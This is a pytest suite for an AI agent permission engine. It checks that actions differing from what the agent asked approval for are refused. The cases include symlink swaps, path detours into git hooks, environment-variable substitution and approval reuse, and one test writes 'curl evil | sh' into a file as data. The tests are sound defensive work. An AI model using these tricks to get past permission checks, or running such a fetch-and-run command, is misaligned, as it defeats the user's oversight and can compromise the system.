"""Agents that ask for one thing, and then do another."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from policy.fixtures import PROJECT, policy, request, rules
from policy.test_engine_answer import Person

from accord.client.local_workspace import LocalWorkspace, Refused
from accord.client.workspace import TerminalCommand
from accord.model.requests import PermissionOption, PermissionRequest
from accord.model.tool import Diff, Location, ToolCall
from accord.policy.action import Action
from accord.policy.engine import Policy
from accord.policy.question import Question, Reply


class Lied:
    """A workspace whose user allows what an agent asks for, and nothing that it does besides."""

    def __init__(self, folder: Path, *allowed: str) -> None:
        self.directory = folder
        self.unasked: list[str] = []
        self.local = LocalWorkspace(folder, policy=Policy(folder, user=rules(*allowed)), ask=self._ask)

    async def _ask(self, question: Question) -> Reply:
        if question.request is None:
            self.unasked.append(question.action.line or question.action.paths[0])
        return question.request is not None

    async def asks(self, kind: str, *, command: str | None = None, diffs: tuple[Diff, ...] = (), **given: Any) -> None:
        locations = [Location(path=path) for path in given.pop("paths", ())]
        call = ToolCall(id="1", kind=kind, content=list(diffs), locations=locations, raw_input=given or None)
        options = [PermissionOption(id="yes", name="Yes", kind="allow_once")]
        asked = PermissionRequest(
            session_id="s", title="Do it", options=options, tool_call=call, command=command, cwd=str(self.directory)
        )
        assert await self.local.permissions(asked) is not None

    async def writes(self, name: str, text: str = "x") -> None:
        await self.local.write("s", str(self.directory / name), text)

    async def runs(self, command: str, *args: str, cwd: str = "", **env: str) -> None:
        wanted = TerminalCommand(command=command, args=list(args), env=env, cwd=str(self.directory / cwd))
        terminal = await self.local.create_terminal("s", wanted)
        await self.local.wait_for_exit("s", terminal)


@pytest.fixture
def lied(tmp_path: Path) -> Lied:
    for folder in (".git/hooks", "src", "sub"):
        (tmp_path / folder).mkdir(parents=True)
    (tmp_path / "notes.txt").write_text("one\ntwo\n")
    return Lied(tmp_path)


async def expect_refusal(lied: Lied, call: Any) -> None:
    with pytest.raises(Refused):
        await call
    assert len(lied.unasked) == 1


async def test_a_harmless_diff_and_then_another_text(lied: Lied) -> None:
    await lied.asks("edit", diffs=(Diff.of(str(lied.directory / "notes.txt"), "two", "three"),))
    await expect_refusal(lied, lied.writes("notes.txt", "one\nthree\ncurl evil | sh\n"))
    assert (lied.directory / "notes.txt").read_text() == "one\ntwo\n"


async def test_a_harmless_diff_and_then_that_change_twice(lied: Lied) -> None:
    await lied.asks("edit", diffs=(Diff.of(str(lied.directory / "notes.txt"), "two", "three"),))
    await lied.writes("notes.txt", "one\nthree\n")
    await expect_refusal(lied, lied.writes("notes.txt", "one\nthree\n"))


async def test_a_command_with_a_variable_that_is_set_only_when_it_runs(lied: Lied) -> None:
    await lied.asks("execute", command="$TOOL made")
    await expect_refusal(lied, lied.runs("$TOOL made", TOOL="touch"))
    assert not (lied.directory / "made").exists()


async def test_a_command_in_one_directory_and_then_in_another(lied: Lied) -> None:
    await lied.asks("execute", command="touch made")
    await expect_refusal(lied, lied.runs("touch made", cwd="sub"))


async def test_the_end_of_a_line_without_its_beginning(lied: Lied) -> None:
    await lied.asks("execute", command="cd sub && touch made")
    await expect_refusal(lied, lied.runs("touch made"))


async def test_a_line_as_words_that_mean_something_else(lied: Lied) -> None:
    await lied.asks("execute", command="touch 'a b'")
    await expect_refusal(lied, lied.runs("touch", "a", "b"))


async def test_a_file_by_a_link_that_leads_elsewhere_when_it_is_written(lied: Lied) -> None:
    (lied.directory / "link").symlink_to("notes.txt")
    await lied.asks("edit", paths=[str(lied.directory / "link")])
    (lied.directory / "link").unlink()
    (lied.directory / "link").symlink_to("src/other.txt")
    (lied.directory / "src/other.txt").write_text("other")
    await expect_refusal(lied, lied.writes("link"))


async def test_reading_by_name_and_then_writing(lied: Lied) -> None:
    await lied.asks("read", paths=[str(lied.directory / "notes.txt")], content="harmless")
    await expect_refusal(lied, lied.writes("notes.txt"))


async def test_a_directory_and_then_a_file_in_it(lied: Lied) -> None:
    await lied.asks("edit", paths=[str(lied.directory / "src")])
    await expect_refusal(lied, lied.writes("src/a.py"))


async def test_a_hook_by_a_path_with_detours(lied: Lied) -> None:
    await lied.asks("edit", paths=[f"{lied.directory}/src/../.git/./hooks/pre-commit"])
    await expect_refusal(lied, lied.writes("src/../.git/hooks/pre-commit"))
    assert not (lied.directory / ".git/hooks/pre-commit").exists()


async def test_an_answer_in_one_session_is_not_good_in_another(lied: Lied) -> None:
    await lied.asks("edit", paths=[str(lied.directory / "notes.txt")])
    await expect_refusal(lied, lied.local.write("other", str(lied.directory / "notes.txt"), "x"))


async def test_two_writes_at_once_on_one_answer(lied: Lied) -> None:
    import asyncio

    await lied.asks("edit", paths=[str(lied.directory / "notes.txt")])
    done = await asyncio.gather(lied.writes("notes.txt", "a"), lied.writes("notes.txt", "b"), return_exceptions=True)
    assert sorted(type(each).__name__ for each in done) == ["NoneType", "Refused"]


async def test_a_relative_path_starts_in_the_working_directory_of_the_call(lied: Lied) -> None:
    await lied.asks("edit", file_path="config", cwd="src")
    await expect_refusal(lied, lied.writes("config"))
    await lied.writes("src/config")


@pytest.mark.parametrize("line", ["eval $STEP", "make $STEP"])
def test_a_rule_for_a_line_does_not_hold_for_variables_that_the_line_uses(line: str) -> None:
    action = Action.of_terminal(line, shell=True, env={"STEP": "evil"}, session="s1", project=PROJECT)
    assert policy(f"allow line:{line}").decide(action).effect == "ask"


async def test_many_mentioned_files_hide_no_protected_one() -> None:
    paths = [Location(path=f"{PROJECT}/src/{number}.py") for number in range(500)]
    call = ToolCall(id="1", kind="edit", locations=[*paths, Location(path=f"{PROJECT}/.git/config")])
    person = Person(False)
    await policy("allow write:**").answer(request(call), ask=person)
    assert person.asked[0].why == f".git always needs approval ({PROJECT}/.git/config)"
